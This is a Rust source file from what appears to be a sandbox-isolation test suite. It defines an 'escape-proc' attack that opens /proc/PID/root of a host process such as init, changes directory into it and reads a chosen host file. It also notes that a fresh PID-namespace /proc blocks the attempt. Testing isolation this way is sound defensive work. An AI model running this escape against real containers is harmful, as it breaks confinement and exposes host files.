//! Takes the root directory of another process: /proc/PID/root is a door into
//! wherever that process lives. All it needs is a /proc of the host.

use nix::fcntl::OFlag;
use nix::unistd::fchdir;

use crate::attack::{
    Argument, Arguments, Attack, FILE, OrStopped, Outcome, StoppedBy, Try,
};
use crate::{outside, procfs};

pub const ATTACK: Attack = Attack {
    name: "escape-proc",
    tries: "go through /proc/1/root to the root directory of the host's init",
    stopped: StoppedBy::Step(3),
    rule: "a fresh /proc has the processes of its PID namespace only",
    source: "proc_pid_root(5), pid_namespaces(7)",
    arguments: &[FILE, Argument::new("PID", "1", "a process of the host")],
    run,
};

fn run(arguments: &Arguments) -> Try {
    let root = outside::look("/")?;
    let door = format!("{}/root", arguments.text("PID")?);
    let beyond = procfs::open(&door, OFlag::O_PATH | OFlag::O_DIRECTORY);
    let beyond = beyond.or_stopped(format!("open(\"/proc/{door}\")"))?;
    fchdir(&beyond).or_stopped("fchdir()")?;
    match outside::climb(root)? {
        true => outside::read(arguments.text("FILE")?),
        false => Ok(Outcome::Stopped(format!("/proc/{door} is our own /"))),
    }
}
